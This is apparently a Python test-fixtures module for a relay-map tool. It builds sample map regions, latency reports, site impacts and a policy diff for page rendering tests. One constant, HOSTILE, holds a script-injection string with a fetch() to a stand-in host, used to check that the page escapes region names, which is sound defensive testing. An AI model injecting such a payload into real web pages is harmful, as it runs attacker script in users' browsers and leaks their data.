"""Inputs the page tests share: a map with every kind of region, a latency report, an impact and a policy diff."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from derptool.derpmap import DERPMap, DERPNode, DERPRegion
from derptool.derpmap.sources import load_snapshot
from derptool.fleet.impact import Home, Impact, SiteImpact
from derptool.net.netcheck.report import RegionResult, Report

HOSTILE = "<script>alert(1)</script>\" onload=\"fetch('http://leak.test/x')"
"""A name that would run code or load from elsewhere if the page did not escape it."""


@dataclass(frozen=True)
class Shape:
    """A country shape of the kind ``load_countries`` gives (code, name, polygons of (lon, lat) rings)."""

    code: str
    name: str
    polygons: tuple[Any, ...]


TINY_COUNTRIES = (
    Shape("DE", "Germany", ((((6.0, 54.0), (15.0, 54.0), (13.0, 47.5), (7.0, 47.5), (6.0, 54.0)),),)),
    Shape("US", "United States", ((((-125.0, 48.0), (-67.0, 48.0), (-80.0, 25.0), (-117.0, 32.0)),),)),
    Shape("AU", "Australia", (((114.0, -22.0), (153.0, -25.0), (146.0, -39.0), (116.0, -34.0)),)),
)
"""Three countries, one given as bare rings (the shape reader takes both forms)."""


def region(rid: int, code: str, name: str, lat: float = 0.0, lon: float = 0.0, nodes: int = 1) -> DERPRegion:
    """A region with *nodes* nodes."""
    return DERPRegion(
        region_id=rid,
        region_code=code,
        region_name=name,
        latitude=lat,
        longitude=lon,
        nodes=[
            DERPNode(name=f"{rid}{chr(97 + i)}", region_id=rid, host_name=f"derp{rid}-{i}.example")
            for i in range(nodes)
        ],
    )


def snapshot() -> DERPMap:
    """The bundled snapshot of the public map."""
    return load_snapshot().derp_map


def mixed_map() -> tuple[DERPMap, dict[int, str]]:
    """The public snapshot plus a self-hosted region with coordinates, one without, and one with a hostile
    name; and the state each region's marker must have when nothing is omitted."""
    base = snapshot()
    regions: dict[int, DERPRegion | None] = dict(base.regions)
    regions[900] = region(900, "home", "Home lab", 47.37, 8.54, nodes=2)
    regions[901] = region(901, "attic", "No coordinates")
    regions[902] = region(902, "evil", HOSTILE, 10.0, 10.0)
    dmap = DERPMap(regions=regions)
    states = {r.region_id: ("self-hosted" if r.region_id >= 900 else "kept") for r in dmap.region_list()}
    return dmap, states


def latency_report(dmap: DERPMap) -> Report:
    """A report over *dmap*: the first five regions answered (fra nearest), the rest did not, plus a region
    the map does not have."""
    results = []
    for i, r in enumerate(dmap.region_list()):
        ms = [4.0, 25.0, 80.0, 140.0, 290.0][i] if i < 5 else None
        results.append(
            RegionResult(
                id=r.region_id,
                code=r.region_code,
                name=r.region_name,
                latency_ms=ms,
                method="stun" if ms is not None else None,
                error=None if ms is not None else "no answer",
            )
        )
    results.append(RegionResult(id=777, code="gone", name="Not in the map", latency_ms=50.0, method="stun"))
    results.sort(key=lambda r: (r.latency_ms is None, r.latency_ms or 0.0))
    return Report(map_source="test map", preferred_region=results[0].id, udp=True, ipv4=True, regions=results)


def impact(sites: int = 4) -> Impact:
    """An impact on the snapshot of removing fra (4) and ams (14): stranded, over budget, within, unchanged."""
    rows = [
        SiteImpact("frankfurt", Home(4, "fra", 3.0), Home(26, "nue", 9.5)),
        SiteImpact("amsterdam", Home(14, "ams", 2.0), Home(8, "lhr", 41.0)),
        SiteImpact("island", Home(4, "fra", 20.0), None),
        SiteImpact("tokyo", Home(7, "tok", 5.0), Home(7, "tok", 5.0)),
    ]
    for i in range(sites - len(rows)):
        rows.append(SiteImpact(f"site-{i:04d}", Home(4, "fra", 10.0 + i % 50), Home(18, "par", 12.0 + (i * 7) % 90)))
    return Impact([4, 14], rows)


def policy_diff() -> dict[str, Any]:
    """A ``policy diff --format json`` object: access rows that group by source, ssh, a DERP change with sites."""
    return {
        "access": {
            "gained": [{"src": f"laptop-{i}", "dst": "db-1", "proto": "tcp", "ports": "5432"} for i in range(12)]
            + [{"src": "ci", "dst": "10.0.0.0/8", "proto": "udp", "ports": "53"}],
            "lost": [{"src": "guest", "dst": "printer", "proto": "tcp", "ports": "*"}],
        },
        "ssh": {"gained": [], "lost": [{"src": "alice", "dst": "web-1", "user": "root", "action": "accept"}]},
        "egress": {"gained": [{"src": "laptop-1", "exit": "exit-de"}], "lost": []},
        "capabilities": {"gained": [], "lost": []},
        "derp": {
            "removed": [{"id": 4, "code": "fra", "name": "Frankfurt"}, {"id": 14, "code": "ams", "name": "Amsterdam"}],
            "added": [{"id": 900, "code": "home", "name": "Home lab"}],
            "changed": [{"id": 8, "code": "lhr", "name": "London"}],
            "sites": [
                {
                    "site": "berlin",
                    "before": {"region": 4, "latency_ms": 8.0},
                    "after": {"region": 900, "latency_ms": 11.0},
                    "increase_ms": 3.0,
                },
                {
                    "site": "rotterdam",
                    "before": {"region": 14, "latency_ms": 3.0},
                    "after": {"region": 8, "latency_ms": 40.0},
                    "increase_ms": 37.0,
                },
            ],
        },
        "tests": {"newly_failing": ["group:eng -> tag:db:5432"], "newly_passing": []},
    }
